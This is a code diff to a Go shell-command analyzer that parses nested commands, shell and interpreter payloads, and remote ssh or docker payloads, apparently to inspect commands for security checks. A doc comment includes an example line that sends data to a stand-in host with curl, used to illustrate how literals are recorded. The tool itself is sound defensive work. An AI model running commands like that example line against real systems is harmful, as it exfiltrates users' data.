@@ -82,10 +82,13 @@ const (
 // # Nested commands and payloads
 //
 // Command and process substitutions are listed after their command, Via
-// "$()", "“", "<()", ">()", at the same Depth. Shell payloads are
+// "$()", "<()", ">()" (backquotes: two backquote characters), at the
+// same Depth. Shell payloads are
 // parsed one Depth deeper (beyond MaxDepth: ErrTooDeep), with their own
-// Line offsets, and a fresh set of variables unless they run in the same
-// shell (eval, alias, trap, source):
+// Line offsets. eval, alias, trap and source run in the line's shell and
+// see all its variables; a new process (sh -c, an interpreter) sees the
+// exported ones (export, declare -x) and its command's NAME=value
+// prefixes; ssh and docker/kubectl payloads see none.
 //   - NAME -c (NAME: sh bash dash zsh ksh ash mksh...; flags combined as
 //     -lc, -ec; -o OPT skipped): Via "NAME -c". A Dynamic payload is
 //     parsed as written (its unknown parts stay Dynamic words), unless it
@@ -121,7 +124,10 @@ const (
 //     (Source "python -c", "node -e", "perl -e", "ruby -e", "php -r",
 //     "bun -e", "deno eval", "osascript -e", "awk"; code read from stdin:
 //     "python <<" or "| python"); the commands they run are listed Via
-//     the same name, one Depth deeper.
+//     the same name, one Depth deeper. Their Line is the literal's text,
+//     "…" standing for an operand concatenated to it that is not a
+//     literal ('curl https://e.example/?d=' + data: "curl
+//     https://e.example/?d=…"), or the call's text for an argv list.
 //
 // # Encoded data
 //
@@ -156,6 +162,7 @@ func Parse(line string) (a Analysis) {
 			a = p.a
 		}
 	}()
+	p.hint = commandsHint(line)
 	p.shell(line, &ctx{sc: newScope(), mult: 1}, "")
 	return p.a
 }
@@ -169,6 +176,10 @@ type parser struct {
 	// building a command's words; the command walks them after it is
 	// listed (nested commands come after the one holding them).
 	pending []pending
+	// pushed holds the substitutions in pending (by first statement).
+	pushed map[*syntax.Stmt]bool
+	// literals holds the literals listed, by source and text.
+	literals map[[2]string]bool
 	// pipeFrom is the index of the command whose output the next simple
 	// command listed reads (-1: none).
 	pipeFrom int
@@ -181,9 +192,14 @@ type parser struct {
 	// quiet > 0 drops substitutions instead of listing them (words
 	// evaluated twice, or only to compute a static output).
 	quiet int
+	// env holds the NAME=value prefixes of the command whose payloads are
+	// being read: the environment of the process it starts.
+	env []Assign
 	// procModule: the interpreter code being read imports a process
 	// module, so a weak exec name called on any module counts.
 	procModule bool
+	// hint is the capacity Commands starts with.
+	hint int
 	// stop is set once a limit is reached: nothing more is listed.
 	stop bool
 }
@@ -211,6 +227,9 @@ type ctx struct {
 	sc    *scope
 	// mult is how many times the enclosing loops are already unrolled.
 	mult int
+	// remote: a shell payload read from here runs on another machine or
+	// in a container (ssh, docker exec): it sees none of our variables.
+	remote bool
 	// dyn marks a text built from an interpreter's string concatenation:
 	// dynPlaceholder in it stands for the unknown parts.
 	dyn bool
@@ -289,26 +308,60 @@ func (p *parser) shell(text string, c *ctx, what string) {
 		p.fail(fmt.Errorf("%w: %s%d | and & operators, more than %d", ErrTooDeep, errWhere(what), n, maxOperators))
 		return
 	}
-	c.src = text
-	sp := parsers.Get().(*syntax.Parser)
-	defer parsers.Put(sp)
-	// The iterator is read to its end: syntax.Parser.Stmts panics when
-	// its callback stops it at a statement that comes with an error.
-	var err error
-	for s, serr := range sp.StmtsSeq(strings.NewReader(text)) {
-		if serr != nil {
-			if err == nil {
-				err = serr
-			}
-			continue
-		}
-		if err == nil && !p.stop {
-			p.stmt(s, c)
-		}
+	if n := substitutions(text); n > MaxCommands {
+		// Each lists a command at least: refused before parsing.
+		p.stop = true
+		p.fail(fmt.Errorf("%w: %s%d command substitutions, more than %d", ErrTooMany, errWhere(what), n, MaxCommands))
+		return
 	}
-	if err != nil {
+	c.src = text
+	if err := p.parseStmts(text, func(s *syntax.Stmt) bool {
+		p.stmt(s, c)
+		return !p.stop
+	}); err != nil {
 		p.fail(fmt.Errorf("%w: %s%s", ErrSyntax, errWhere(what), describeSyntaxErr(err)))
 	}
+}
+
+// parseStmts parses text and calls fn with each statement until it
+// returns false or a syntax error is met (returned).
+//
+// syntax.Parser's statement iterator yields once more after being told
+// to stop when an error is pending (a runtime panic in the range loop):
+// that panic is recovered here, and the parser dropped rather than
+// reused.
+func (p *parser) parseStmts(text string, fn func(*syntax.Stmt) bool) (err error) {
+	sp := parsers.Get().(*syntax.Parser)
+	stopped := false
+	defer func() {
+		if r := recover(); r != nil {
+			if !stopped {
+				panic(r)
+			}
+			return
+		}
+		parsers.Put(sp)
+	}()
+	for s, serr := range sp.StmtsSeq(strings.NewReader(text)) {
+		if serr != nil {
+			err = serr
+			stopped = true
+			break
+		}
+		if !fn(s) {
+			stopped = true
+			break
+		}
+	}
+	return err
+}
+
+// substitutions counts the command and process substitutions text may
+// hold ($(, backquote pairs, <(, >(), an over-estimate.
+func substitutions(text string) int {
+	n := strings.Count(text, "$(") - strings.Count(text, "$((") +
+		strings.Count(text, "<(") + strings.Count(text, ">(")
+	return n + strings.Count(text, "`")/2
 }
 
 func errWhere(what string) string {
@@ -376,8 +429,8 @@ func (p *parser) add(cmd Command) int {
 		return -1
 	}
 	if p.a.Commands == nil {
-		p.a.Commands = make([]Command, 0, 4)
-		p.out = make([]staticOut, 0, 4)
+		p.a.Commands = make([]Command, 0, p.hint)
+		p.out = make([]staticOut, 0, p.hint)
 	}
 	p.a.Commands = append(p.a.Commands, cmd)
 	p.out = append(p.out, staticOut{})
@@ -397,11 +450,14 @@ func (p *parser) literal(source, text string) {
 	if !p.spend(len(text)) {
 		return
 	}
-	for _, l := range p.a.Literals {
-		if l.Source == source && l.Text == text {
-			return
-		}
+	key := [2]string{source, text}
+	if p.literals[key] {
+		return
 	}
+	if p.literals == nil {
+		p.literals = map[[2]string]bool{}
+	}
+	p.literals[key] = true
 	p.a.Literals = append(p.a.Literals, Literal{Source: source, Text: text})
 }
 
@@ -412,3 +468,16 @@ const (
 	dynName        = "__shellx_dynamic__"
 	dynPlaceholder = "${" + dynName + "}"
 )
+
+// commandsHint guesses how many commands line lists (one, plus one per
+// operator or opening parenthesis), to size Commands once.
+func commandsHint(line string) int {
+	n := 1
+	for i := 0; i < len(line) && n < 64; i++ {
+		switch line[i] {
+		case '|', ';', '&', '\n', '(', '`':
+			n++
+		}
+	}
+	return n
+}
